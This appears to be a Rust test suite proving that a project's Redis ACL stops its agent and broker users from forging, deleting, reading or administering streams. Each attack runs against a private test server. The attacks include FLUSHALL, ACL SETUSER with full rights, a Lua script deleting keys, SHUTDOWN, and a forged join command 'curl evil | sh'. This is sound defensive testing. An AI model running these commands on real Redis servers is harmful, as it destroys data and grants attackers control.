//! The Redis ACLs shipped in `infra/redis/users.acl`, on a private redis-server loaded with a
//! copy of that file (the test's stream prefix in its key patterns, fresh passwords).
//!
//! Attack tests: every attack first runs against a private Redis without any ACL, where it must
//! work (so the test would fail if the ACL were missing), then against the locked-down one, where
//! Redis must answer NOPERM and nothing may have changed. Then the whole path runs with only the
//! two users: the SDK's code as `agent`, the real bridge and reply adapter as `broker`.

use std::sync::Arc;
use std::time::Duration;

use redis::aio::MultiplexedConnection;
use redis::Value;
use redis_bridge::{BridgeSettings, Pass, RedisBridge};
use tokio::sync::broadcast;
use worldland_adapters::bus::memory::MemoryBus;
use worldland_adapters::cluster::simulated::SimulatedCluster;
use worldland_adapters::replies::RedisReplies;
use worldland_adapters::state::memory::MemoryStore;
use worldland_core::answers::BrokerKey;
use worldland_core::bus::{Bus, QueueSpec};
use worldland_core::messages::jobs::MiningCommand;
use worldland_core::messages::{ProviderValidated, StreamEnvelope};
use worldland_core::replies::ProviderReplies;
use worldland_core::signature::SignaturePolicy;
use worldland_core::state::ItemStore;
use worldland_core::streams::{StreamNames, AGENT_RESPONSE_GROUP};
use worldland_core::validation::ValidationPolicy;
use worldland_provider_sdk::client::{join_from_response, publish_registration, wait_for_response};
use worldland_provider_sdk::heartbeat::{run_heartbeats, HeartbeatSettings, Usage};
use worldland_provider_sdk::mining::{run_commands, CommandAck, MiningSettings};
use worldland_provider_sdk::simulated::SimulatedProvider;
use worldland_tests::private_redis::{acl_for_test, shipped_acl_path, PrivateRedis, ADMIN, AGENT, BROKER};
use worldland_tests::Outcome;

const WAIT: Duration = Duration::from_secs(10);
/// The bridge's consumer group in the seeded streams.
const BRIDGE_GROUP: &str = "bridge";
/// Another provider, whose answers an agent must not forge or destroy.
const VICTIM: &str = "victim-provider-0001";
/// Carried by every seeded inbound entry: a reply holding it revealed another agent's data.
const MARKER: &str = "another-agents-entry";

async fn connect(url: &str) -> MultiplexedConnection {
    redis::Client::open(url)
        .unwrap()
        .get_multiplexed_async_connection()
        .await
        .unwrap_or_else(|e| panic!("connecting to {url}: {e}"))
}

fn cmd(args: &[&str]) -> redis::Cmd {
    let mut c = redis::cmd(args[0]);
    for a in &args[1..] {
        c.arg(*a);
    }
    c
}

async fn run(url: &str, c: &redis::Cmd) -> redis::RedisResult<Value> {
    c.query_async(&mut connect(url).await).await
}

/// Redis's answer when the ACL refuses: NOPERM, or (7.0) the error a script gets when a command
/// it calls is refused.
fn assert_noperm(what: &str, r: &redis::RedisResult<Value>) {
    let refused_in_script = |e: &redis::RedisError| {
        let text = e.to_string();
        text.contains("The user executing the script can't run this command") || text.contains("The user executing the script can't access")
    };
    match r {
        Err(e) if e.code() == Some("NOPERM") || refused_in_script(e) => {}
        other => panic!("{what}: Redis must answer NOPERM, got {other:?}"),
    }
}

/// What seeding left for the attacks to aim at.
#[derive(Debug, Default)]
struct Seeded {
    /// The bridge's entry on `provider:registration` that is delivered but not yet acked.
    pending: String,
    /// The other, not yet delivered registration.
    undelivered: String,
    /// The broker's answer on [`VICTIM`]'s response stream.
    answer: String,
}

/// Wipes the test's keys and writes the streams as a running plane has them: two registrations
/// (one delivered to the bridge, pending), a heartbeat, a command ack, a dead letter, the
/// bridge's group on both inbound streams, and an answer on another provider's response stream
/// with its `sdk-group`. Done as the test-only superuser (the default user without an ACL).
async fn seed(server: &PrivateRedis) -> Seeded {
    let mut c = connect(&server.url(ADMIN)).await;
    let s = server.streams();
    let keys: Vec<String> = cmd(&["KEYS", &format!("{}*", server.prefix)]).query_async(&mut c).await.unwrap();
    if !keys.is_empty() {
        let _: i64 = redis::cmd("DEL").arg(&keys).query_async(&mut c).await.unwrap();
    }
    let data = format!("{{\"provider_id\":\"someone-else\",\"note\":\"{MARKER}\"}}");
    let mut ids = vec![];
    for stream in [s.registration(), s.registration(), s.heartbeat(), s.command_ack(), s.dead_letter()] {
        let id: String = cmd(&["XADD", &stream, "*", "data", &data]).query_async(&mut c).await.unwrap();
        ids.push(id);
    }
    for stream in [s.registration(), s.heartbeat()] {
        let _: () = cmd(&["XGROUP", "CREATE", &stream, BRIDGE_GROUP, "0"])
            .query_async(&mut c)
            .await
            .unwrap();
    }
    let _: Value = cmd(&[
        "XREADGROUP",
        "GROUP",
        BRIDGE_GROUP,
        "bridge-1",
        "COUNT",
        "1",
        "STREAMS",
        &s.registration(),
        ">",
    ])
    .query_async(&mut c)
    .await
    .unwrap();
    let victim = s.response(VICTIM);
    let _: () = cmd(&["XGROUP", "CREATE", &victim, AGENT_RESPONSE_GROUP, "0", "MKSTREAM"])
        .query_async(&mut c)
        .await
        .unwrap();
    let answer: String = cmd(&[
        "XADD",
        &victim,
        "*",
        "data",
        "{\"success\":true,\"status\":\"approved\",\"message\":\"the broker's\"}",
    ])
    .query_async(&mut c)
    .await
    .unwrap();
    Seeded {
        pending: ids[0].clone(),
        undelivered: ids[1].clone(),
        answer,
    }
}

/// Every key of the test with its entries, groups and whether it expires.
async fn snapshot(server: &PrivateRedis) -> Vec<String> {
    let mut c = connect(&server.url(ADMIN)).await;
    let mut keys: Vec<String> = cmd(&["KEYS", &format!("{}*", server.prefix)]).query_async(&mut c).await.unwrap();
    keys.sort();
    let mut out = vec![];
    for k in keys {
        let kind: String = cmd(&["TYPE", &k]).query_async(&mut c).await.unwrap();
        if kind != "stream" {
            out.push(format!("{k} {kind}"));
            continue;
        }
        let entries: Value = cmd(&["XRANGE", &k, "-", "+"]).query_async(&mut c).await.unwrap();
        let groups: Value = cmd(&["XINFO", "GROUPS", &k]).query_async(&mut c).await.unwrap();
        let ttl: i64 = cmd(&["TTL", &k]).query_async(&mut c).await.unwrap();
        out.push(format!("{k} expires={} entries={entries:?} groups={groups:?}", ttl != -1));
    }
    out
}

/// How an attack shows that it worked on a Redis without ACL.
#[derive(Debug, Clone, Copy)]
enum Works {
    /// It changed the streams (entries, groups, keys or expiry).
    Changes,
    /// It answered with data (entries, ids, keys, settings).
    Answers,
    /// Redis carried it out (its effect lies outside the streams: configuration, users…).
    Accepted,
}

struct Attack {
    what: &'static str,
    cmd: redis::Cmd,
    works: Works,
}

fn attack(what: &'static str, works: Works, args: &[&str]) -> Attack {
    Attack {
        what,
        cmd: cmd(args),
        works,
    }
}

fn is_data(v: &Value) -> bool {
    !matches!(v, Value::Nil) && !matches!(v, Value::Array(a) if a.is_empty()) && !matches!(v, Value::Map(m) if m.is_empty())
}

/// Runs each attack of `attacks` as `user`, on freshly seeded streams: without an ACL it works;
/// with the shipped ACL Redis answers NOPERM and every stream is as it was.
async fn prove_denied(user: &str, attacks: fn(&StreamNames, &Seeded, &str) -> Vec<Attack>) {
    let open = PrivateRedis::without_acl();
    let locked = PrivateRedis::with_shipped_acl();
    let count = attacks(&open.streams(), &Seeded::default(), &open.prefix).len();
    for i in 0..count {
        let seeded = seed(&open).await;
        let before = snapshot(&open).await;
        let a = attacks(&open.streams(), &seeded, &open.prefix).swap_remove(i);
        let r = run(&open.url(user), &a.cmd).await;
        let v = r.unwrap_or_else(|e| panic!("without an ACL, '{}' must work, but: {e}", a.what));
        match a.works {
            Works::Changes => assert_ne!(snapshot(&open).await, before, "without an ACL, '{}' changes the streams", a.what),
            Works::Answers => assert!(is_data(&v), "without an ACL, '{}' answers with data: {v:?}", a.what),
            Works::Accepted => {}
        }

        let seeded = seed(&locked).await;
        let before = snapshot(&locked).await;
        let a = attacks(&locked.streams(), &seeded, &locked.prefix).swap_remove(i);
        assert_noperm(&format!("{user}: {}", a.what), &run(&locked.url(user), &a.cmd).await);
        assert_eq!(snapshot(&locked).await, before, "{user}: '{}' changed nothing", a.what);
    }
}

#[test]
fn the_test_copy_prefixes_every_key_pattern_and_replaces_every_placeholder() {
    let shipped = std::fs::read_to_string(shipped_acl_path()).unwrap();
    let patterns = |text: &str| -> Vec<String> {
        text.lines()
            .filter(|l| !l.starts_with(&format!("user {ADMIN} ")))
            .flat_map(str::split_whitespace)
            .filter_map(|t| t.split_once('~').map(|(_, p)| p.trim_end_matches(')').to_string()))
            .collect()
    };
    let production = patterns(&shipped);
    assert!(production.len() >= 8, "{production:?}");
    assert!(production.iter().all(|p| p.starts_with("provider:")), "{production:?}");
    assert!(!shipped.contains("~*") && !shipped.contains("allkeys") && !shipped.contains("+@all"));
    let copy = acl_for_test(&shipped, "t1:", "a", "b", "c");
    assert!(patterns(&copy).iter().all(|p| p.starts_with("t1:provider:")), "{copy}");
    assert!(!copy.contains("PASSWORD_SHA256"), "{copy}");
}

#[tokio::test]
async fn the_shipped_file_refuses_to_load_until_its_placeholders_are_replaced() {
    let shipped = std::fs::read_to_string(shipped_acl_path()).unwrap();
    let log = match PrivateRedis::start(Some(&shipped)) {
        Ok(_) => panic!("redis-server started with placeholder passwords"),
        Err(log) => log,
    };
    assert!(log.contains("password hash"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_default_user_is_disabled_and_passwords_are_checked() {
    // Without an ACL anyone who reaches the port is the default user, with every right.
    let open = PrivateRedis::without_acl();
    let pong: String = cmd(&["PING"]).query_async(&mut connect(&open.anonymous_url()).await).await.unwrap();
    assert_eq!(pong, "PONG");
    let anyone: redis::RedisResult<()> = cmd(&["AUTH", "default", "anything"])
        .query_async(&mut connect(&open.anonymous_url()).await)
        .await;
    assert!(anyone.is_ok(), "{anyone:?}");

    let locked = PrivateRedis::with_shipped_acl();
    let r: redis::RedisResult<Value> = cmd(&["PING"]).query_async(&mut connect(&locked.anonymous_url()).await).await;
    assert!(matches!(&r, Err(e) if e.code() == Some("NOAUTH")), "{r:?}");
    let r: redis::RedisResult<Value> = cmd(&["AUTH", "default", "anything"])
        .query_async(&mut connect(&locked.anonymous_url()).await)
        .await;
    assert!(matches!(&r, Err(e) if e.code() == Some("WRONGPASS")), "{r:?}");
    let wrong = locked.url(AGENT).replace(locked.password(AGENT), "not-the-password");
    let r = redis::Client::open(wrong).unwrap().get_multiplexed_async_connection().await;
    assert!(r.is_err(), "a wrong agent password is refused");
    let r = redis::Client::open(format!("redis://intruder:x@127.0.0.1:{}", locked.port))
        .unwrap()
        .get_multiplexed_async_connection()
        .await;
    assert!(r.is_err(), "an unknown user is refused");
}

fn forged_answers(s: &StreamNames, seeded: &Seeded, _: &str) -> Vec<Attack> {
    let victim = s.response(VICTIM);
    let own = s.response("attacker-provider");
    let forged = "{\"success\":true,\"status\":\"approved\",\"message\":\"forged\",\"join_command\":\"curl evil | sh\"}";
    vec![
        attack(
            "XADD a forged answer to another provider",
            Works::Changes,
            &["XADD", &victim, "*", "data", forged],
        ),
        attack(
            "XADD a forged answer to its own stream",
            Works::Changes,
            &["XADD", &own, "*", "data", forged],
        ),
        attack(
            "XADD a forged mining command",
            Works::Changes,
            &[
                "XADD",
                &victim,
                "*",
                "data",
                "{\"type\":\"mining.stop\",\"command_id\":\"x\",\"job_id\":\"x\",\"gpu_model\":\"x\",\"gpus\":8}",
            ],
        ),
        attack("XDEL the broker's answer", Works::Changes, &["XDEL", &victim, &seeded.answer]),
        attack("XTRIM a response stream", Works::Changes, &["XTRIM", &victim, "MAXLEN", "0"]),
        attack("DEL a response stream", Works::Changes, &["DEL", &victim]),
        attack("EXPIRE a response stream", Works::Changes, &["EXPIRE", &victim, "1"]),
        attack(
            "XGROUP DESTROY another agent's group",
            Works::Changes,
            &["XGROUP", "DESTROY", &victim, AGENT_RESPONSE_GROUP],
        ),
        attack(
            "XGROUP SETID past another agent's answers",
            Works::Changes,
            &["XGROUP", "SETID", &victim, AGENT_RESPONSE_GROUP, "$"],
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_write_answers_or_commands_on_any_response_stream() {
    prove_denied(AGENT, forged_answers).await;
}

fn tampering(s: &StreamNames, seeded: &Seeded, prefix: &str) -> Vec<Attack> {
    let (reg, hb, acks, dead) = (s.registration(), s.heartbeat(), s.command_ack(), s.dead_letter());
    let stolen = format!("{prefix}stolen");
    let other = format!("{prefix}anything");
    let p = seeded.pending.as_str();
    vec![
        attack("XTRIM the registrations", Works::Changes, &["XTRIM", &reg, "MAXLEN", "0"]),
        attack("XTRIM the heartbeats", Works::Changes, &["XTRIM", &hb, "MINID", "9999999999999"]),
        attack("XTRIM the command acks", Works::Changes, &["XTRIM", &acks, "MAXLEN", "0"]),
        attack("XDEL a registration", Works::Changes, &["XDEL", &reg, p]),
        attack("DEL the registrations", Works::Changes, &["DEL", &reg]),
        attack("UNLINK the heartbeats", Works::Changes, &["UNLINK", &hb]),
        attack("DEL the dead letters", Works::Changes, &["DEL", &dead]),
        attack("EXPIRE the registrations", Works::Changes, &["EXPIRE", &reg, "1"]),
        attack("RENAME the registrations", Works::Changes, &["RENAME", &reg, &stolen]),
        attack(
            "XGROUP DESTROY the bridge's group",
            Works::Changes,
            &["XGROUP", "DESTROY", &reg, BRIDGE_GROUP],
        ),
        attack(
            "XGROUP SETID past unread registrations",
            Works::Changes,
            &["XGROUP", "SETID", &reg, BRIDGE_GROUP, "$"],
        ),
        attack(
            "XGROUP DELCONSUMER the bridge (drops its pending entries)",
            Works::Changes,
            &["XGROUP", "DELCONSUMER", &reg, BRIDGE_GROUP, "bridge-1"],
        ),
        attack(
            "XACK an entry the bridge has not forwarded",
            Works::Changes,
            &["XACK", &reg, BRIDGE_GROUP, p],
        ),
        attack(
            "XCLAIM the bridge's pending entry",
            Works::Changes,
            &["XCLAIM", &reg, BRIDGE_GROUP, "thief", "0", p],
        ),
        attack(
            "XADD to the dead-letter stream",
            Works::Changes,
            &["XADD", &dead, "*", "reason", "forged"],
        ),
        attack("SET a key of its own", Works::Changes, &["SET", &other, "x"]),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_trim_delete_or_rewrite_the_inbound_streams() {
    prove_denied(AGENT, tampering).await;
}

fn snooping(s: &StreamNames, seeded: &Seeded, _: &str) -> Vec<Attack> {
    let (reg, hb, acks, dead) = (s.registration(), s.heartbeat(), s.command_ack(), s.dead_letter());
    vec![
        attack("XRANGE the registrations", Works::Answers, &["XRANGE", &reg, "-", "+"]),
        attack("XREVRANGE the heartbeats", Works::Answers, &["XREVRANGE", &hb, "+", "-"]),
        attack(
            "XREAD the registrations and heartbeats",
            Works::Answers,
            &["XREAD", "STREAMS", &reg, &hb, "0", "0"],
        ),
        attack(
            "XREADGROUP as the bridge (steals undelivered registrations)",
            Works::Answers,
            &["XREADGROUP", "GROUP", BRIDGE_GROUP, "thief", "STREAMS", &reg, ">"],
        ),
        attack(
            "XGROUP CREATE a group of its own on the registrations",
            Works::Changes,
            &["XGROUP", "CREATE", &reg, "rogue", "0"],
        ),
        attack(
            "XINFO STREAM FULL the registrations",
            Works::Answers,
            &["XINFO", "STREAM", &reg, "FULL"],
        ),
        attack("XPENDING of the bridge", Works::Answers, &["XPENDING", &reg, BRIDGE_GROUP]),
        attack(
            "XRANGE the registration still undelivered",
            Works::Answers,
            &["XRANGE", &reg, &seeded.undelivered, "+"],
        ),
        attack("XRANGE other agents' command acks", Works::Answers, &["XRANGE", &acks, "-", "+"]),
        attack("XRANGE the dead letters", Works::Answers, &["XRANGE", &dead, "-", "+"]),
        attack("DUMP the registrations", Works::Answers, &["DUMP", &reg]),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_read_the_inbound_streams() {
    prove_denied(AGENT, snooping).await;
}

fn administration(s: &StreamNames, _: &Seeded, _: &str) -> Vec<Attack> {
    let reg = s.registration();
    vec![
        attack("CONFIG GET", Works::Answers, &["CONFIG", "GET", "dir"]),
        attack(
            "CONFIG SET (keyspace events: every key name on Pub/Sub)",
            Works::Accepted,
            &["CONFIG", "SET", "notify-keyspace-events", "KEA"],
        ),
        attack("FLUSHALL", Works::Changes, &["FLUSHALL"]),
        attack("FLUSHDB", Works::Changes, &["FLUSHDB"]),
        attack("SWAPDB", Works::Changes, &["SWAPDB", "0", "1"]),
        attack("KEYS", Works::Answers, &["KEYS", "*"]),
        attack("SCAN", Works::Answers, &["SCAN", "0"]),
        attack("RANDOMKEY", Works::Answers, &["RANDOMKEY"]),
        attack("ACL LIST", Works::Answers, &["ACL", "LIST"]),
        attack(
            "ACL SETUSER (a user of its own)",
            Works::Accepted,
            &["ACL", "SETUSER", "intruder", "on", ">x", "~*", "+@all"],
        ),
        attack(
            "ACL SETUSER (widen its own rights)",
            Works::Accepted,
            &["ACL", "SETUSER", AGENT, "~*", "+@all"],
        ),
        attack("CLIENT LIST", Works::Answers, &["CLIENT", "LIST"]),
        attack("CLIENT KILL", Works::Accepted, &["CLIENT", "KILL", "TYPE", "normal"]),
        attack("INFO", Works::Answers, &["INFO"]),
        attack("SLOWLOG GET", Works::Accepted, &["SLOWLOG", "GET"]),
        attack(
            "EVAL (a script deleting the registrations)",
            Works::Changes,
            &["EVAL", "return redis.call('DEL', KEYS[1])", "1", &reg],
        ),
        attack("FUNCTION FLUSH", Works::Accepted, &["FUNCTION", "FLUSH"]),
        attack("REPLICAOF", Works::Accepted, &["REPLICAOF", "NO", "ONE"]),
        attack("SAVE", Works::Accepted, &["SAVE"]),
        attack("PUBLISH", Works::Accepted, &["PUBLISH", "anything", "x"]),
        attack("SELECT", Works::Accepted, &["SELECT", "1"]),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_cannot_run_admin_commands() {
    prove_denied(AGENT, administration).await;

    // SHUTDOWN stops a Redis without ACL; the locked-down one answers NOPERM and keeps serving.
    let mut locked = PrivateRedis::with_shipped_acl();
    assert_noperm("agent: SHUTDOWN", &run(&locked.url(AGENT), &cmd(&["SHUTDOWN", "NOSAVE"])).await);
    let pong: String = cmd(&["PING"]).query_async(&mut connect(&locked.url(ADMIN)).await).await.unwrap();
    assert_eq!(pong, "PONG");
    assert!(locked.is_running());
    let acl: Vec<String> = cmd(&["ACL", "LIST"])
        .query_async(&mut connect(&locked.url(ADMIN)).await)
        .await
        .unwrap();
    assert!(!acl.iter().any(|u| u.contains("intruder")), "{acl:?}");

    let mut open = PrivateRedis::without_acl();
    let _ = run(&open.url(AGENT), &cmd(&["SHUTDOWN", "NOSAVE"])).await;
    let deadline = std::time::Instant::now() + WAIT;
    while open.is_running() {
        assert!(std::time::Instant::now() < deadline, "without an ACL, SHUTDOWN stops the server");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

fn broker_overreach(s: &StreamNames, _: &Seeded, _: &str) -> Vec<Attack> {
    let (reg, acks, victim) = (s.registration(), s.command_ack(), s.response(VICTIM));
    vec![
        attack(
            "XADD a registration in an agent's name",
            Works::Changes,
            &["XADD", &reg, "*", "data", "{}"],
        ),
        attack(
            "XADD a command ack in an agent's name",
            Works::Changes,
            &["XADD", &acks, "*", "data", "{}"],
        ),
        attack("XREAD a provider's answers", Works::Answers, &["XREAD", "STREAMS", &victim, "0"]),
        attack(
            "XREADGROUP as an agent",
            Works::Answers,
            &["XREADGROUP", "GROUP", AGENT_RESPONSE_GROUP, "x", "STREAMS", &victim, ">"],
        ),
        attack("XTRIM a response stream", Works::Changes, &["XTRIM", &victim, "MAXLEN", "0"]),
        attack("DEL a response stream", Works::Changes, &["DEL", &victim]),
        attack("DEL the registrations", Works::Changes, &["DEL", &reg]),
        attack("CONFIG GET", Works::Answers, &["CONFIG", "GET", "dir"]),
        attack("KEYS", Works::Answers, &["KEYS", "*"]),
        attack("FLUSHALL", Works::Changes, &["FLUSHALL"]),
        attack("ACL LIST", Works::Answers, &["ACL", "LIST"]),
        // The bridge reads through a script (EVAL): a script gets only what the broker has.
        attack(
            "EVAL a script deleting the registrations",
            Works::Changes,
            &["EVAL", "return redis.call('DEL', KEYS[1])", "1", &reg],
        ),
        attack(
            "EVAL a script writing a registration",
            Works::Changes,
            &["EVAL", "return redis.call('XADD', KEYS[1], '*', 'data', '{}')", "1", &reg],
        ),
        attack(
            "EVAL a script reading a provider's answers",
            Works::Answers,
            &["EVAL", "return redis.call('XRANGE', KEYS[1], '-', '+')", "1", &victim],
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_broker_has_only_what_the_workers_need() {
    prove_denied(BROKER, broker_overreach).await;
}

/// The whole path with the two users only: the SDK's code registers, heartbeats, waits for its
/// answer and obeys a command as `agent`; the real bridge (consumer group, forward, dead letter
/// in MULTI/EXEC, reclaim, trim) and the real reply adapter (group, signed XADD, EXPIRE) work as
/// `broker`, with the real registration handler and join-token issuer between them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn registration_heartbeat_answer_and_command_flow_as_agent_and_broker() {
    let redis = PrivateRedis::with_shipped_acl();
    let streams = redis.streams();
    let agent_url = redis.url(AGENT);
    let broker_url = redis.url(BROKER);
    // Both sides take their credentials from the URL, through their own connection code.
    let mut agent = worldland_redis::connect(&agent_url, false).await.unwrap();
    let mut agent_reader = worldland_redis::connect(&agent_url, true).await.unwrap();
    let broker = worldland_redis::connect(&broker_url, false).await.unwrap();
    let broker_reader = worldland_redis::connect(&broker_url, true).await.unwrap();

    // The agent: a signed registration, an entry the bridge must dead-letter, and heartbeats.
    let p = SimulatedProvider::new(5, chrono::Utc::now());
    let entry = publish_registration(&mut agent, &streams, &p.registration, &p.key).await.unwrap();
    let _: String = cmd(&["XADD", &streams.registration(), "*", "timestamp", "2026-01-01T00:00:00Z"])
        .query_async(&mut agent)
        .await
        .unwrap();
    let (stop_beats, rx) = broadcast::channel(1);
    let beats = tokio::spawn(run_heartbeats(
        HeartbeatSettings {
            redis_url: agent_url.clone(),
            streams: streams.clone(),
            provider_id: p.provider_id.clone(),
            node_name: "gpu-node-00005".into(),
            interval: Duration::from_secs(60),
            timeouts: Default::default(),
            state_dir: None,
        },
        p.key.clone(),
        Usage::default,
        rx,
    ));

    // The broker's bridge forwards both, dead-letters the bad entry, reclaims and trims.
    let bus = Arc::new(MemoryBus::new(5));
    let all = QueueSpec::new("all", &["#"]);
    bus.declare(&all);
    let mut forwarded = bus.subscribe(&all).await.unwrap();
    let settings = BridgeSettings {
        streams: streams.clone(),
        group: BRIDGE_GROUP.into(),
        consumer: "bridge-1".into(),
        reclaim_idle_ms: 0,
        block_ms: 100,
        batch: 16,
    };
    let bridge = RedisBridge::new(broker.clone(), broker_reader, bus.clone(), settings);
    bridge.ensure_groups().await.unwrap();
    let mut pass = Pass::default();
    let deadline = tokio::time::Instant::now() + WAIT;
    while pass.forwarded < 2 || pass.dead_lettered < 1 {
        assert!(tokio::time::Instant::now() < deadline, "the bridge moved {pass:?}");
        pass += bridge.poll_once().await.unwrap();
    }
    assert_eq!(
        pass,
        Pass {
            forwarded: 2,
            dead_lettered: 1,
            left_pending: 0
        }
    );
    let _ = stop_beats.send(());
    let stats = beats.await.unwrap();
    assert_eq!((stats.sent, stats.failed), (1, 0), "the SDK's heartbeat went through as agent");
    assert_eq!(bridge.reclaim_once().await.unwrap(), Pass::default());
    assert!(bridge.trim_once().await.unwrap() >= 1, "the bridge trims what it finished with");

    let mut registration = None;
    for _ in 0..2 {
        let d = tokio::time::timeout(WAIT, forwarded.next()).await.unwrap().unwrap();
        let env: StreamEnvelope = serde_json::from_slice(&d.body).unwrap();
        d.ack().await.unwrap();
        if env.stream == streams.registration() {
            registration = Some(env);
        } else {
            assert_eq!(env.stream, streams.heartbeat());
        }
    }
    let registration = registration.expect("the registration was forwarded");
    assert_eq!(registration.entry_id, entry);

    // The handler and the issuer answer through RedisReplies as broker.
    let key = BrokerKey::generate();
    let replies = Arc::new(RedisReplies::new(broker.clone(), streams.clone(), 600, key.clone()));
    let store: Arc<dyn ItemStore> = Arc::new(MemoryStore::new());
    let sink = worldland_tests::validated_sink();
    let mut validated = sink
        .subscribe(&QueueSpec::new("issuer", join_token_issuer::BINDINGS))
        .await
        .unwrap();
    let handler = registration_handler::Context {
        store: store.clone(),
        bus: sink.clone(),
        replies: replies.clone(),
        policy: ValidationPolicy::default(),
        signatures: SignaturePolicy::Required,
    };
    let now = chrono::Utc::now();
    assert_eq!(
        Outcome::from(registration_handler::handle(&registration, &handler, now).await),
        Outcome::Done
    );
    let d = tokio::time::timeout(WAIT, validated.next()).await.unwrap().unwrap();
    let msg: ProviderValidated = serde_json::from_slice(&d.body).unwrap();
    d.ack().await.unwrap();
    let issuer = join_token_issuer::Context {
        store,
        cluster: Arc::new(SimulatedCluster::new("https://10.0.0.1:6443")),
        replies: replies.clone(),
        token_ttl: chrono::Duration::hours(1),
        max_pending_per_wallet: 3,
        api_endpoint: None,
    };
    assert_eq!(Outcome::from(join_token_issuer::handle(&msg, &issuer, now).await), Outcome::Done);

    // The SDK reads the answer as agent and opens the sealed join.
    let answer = wait_for_response(&mut agent_reader, &streams, &p.provider_id, &entry, &key.public(), WAIT)
        .await
        .unwrap();
    assert!(answer.success, "{answer:?}");
    let join = join_from_response(&answer, &p.enc_secret).unwrap();
    assert!(!join.join_token.is_empty());

    // A mining command written as broker is obeyed and acknowledged by the SDK as agent.
    let stop = MiningCommand {
        kind: "mining.stop".into(),
        command_id: "job-1/stop".into(),
        job_id: "job-1".into(),
        gpu_model: "RTX-4090".into(),
        gpus: 1,
    };
    replies.command(&p.provider_id, &stop).await.unwrap();
    let (stop_commands, rx) = broadcast::channel(1);
    let handling = tokio::spawn(run_commands(
        agent_url.clone(),
        streams.clone(),
        p.provider_id.clone(),
        p.key.clone(),
        key.public(),
        MiningSettings {
            stop_cmd: Some("miner-ctl stop --gpus {gpus}".into()),
            resume_cmd: None,
            dry_run: true,
            machine_gpus: p.registration.spec.total_gpus,
            ..Default::default()
        },
        rx,
    ));
    // No worker reads the acks: the test-only superuser does.
    let mut admin = connect(&redis.url(ADMIN)).await;
    let reply: redis::streams::StreamReadReply = tokio::time::timeout(
        WAIT,
        cmd(&["XREAD", "BLOCK", "5000", "STREAMS", &streams.command_ack(), "0"]).query_async(&mut admin),
    )
    .await
    .expect("the acknowledgement within 10 s")
    .unwrap();
    let ack_entry = &reply.keys.first().expect("an acknowledgement").ids[0];
    let ack: CommandAck = serde_json::from_str(&ack_entry.get::<String>("data").unwrap()).unwrap();
    assert_eq!((ack.command_id.as_str(), ack.ok), ("job-1/stop", true));
    let _ = stop_commands.send(());
    assert_eq!(handling.await.unwrap(), 1);

    // What the two users did, seen by the superuser: nothing left pending anywhere, the bad entry
    // dead-lettered with its reason, the answers expiring.
    for (stream, group) in [
        (streams.registration(), BRIDGE_GROUP),
        (streams.heartbeat(), BRIDGE_GROUP),
        (streams.response(&p.provider_id), AGENT_RESPONSE_GROUP),
    ] {
        let pending: Value = cmd(&["XPENDING", &stream, group]).query_async(&mut admin).await.unwrap();
        assert!(
            matches!(&pending, Value::Array(a) if a.first() == Some(&Value::Int(0))),
            "{stream}: {pending:?}"
        );
    }
    let dead: redis::streams::StreamRangeReply = cmd(&["XRANGE", &streams.dead_letter(), "-", "+"])
        .query_async(&mut admin)
        .await
        .unwrap();
    assert_eq!(dead.ids.len(), 1);
    assert_eq!(dead.ids[0].get::<String>("reason").as_deref(), Some("missing_data"));
    let ttl: i64 = cmd(&["TTL", &streams.response(&p.provider_id)])
        .query_async(&mut admin)
        .await
        .unwrap();
    assert!(ttl > 0 && ttl <= 600, "{ttl}");
}
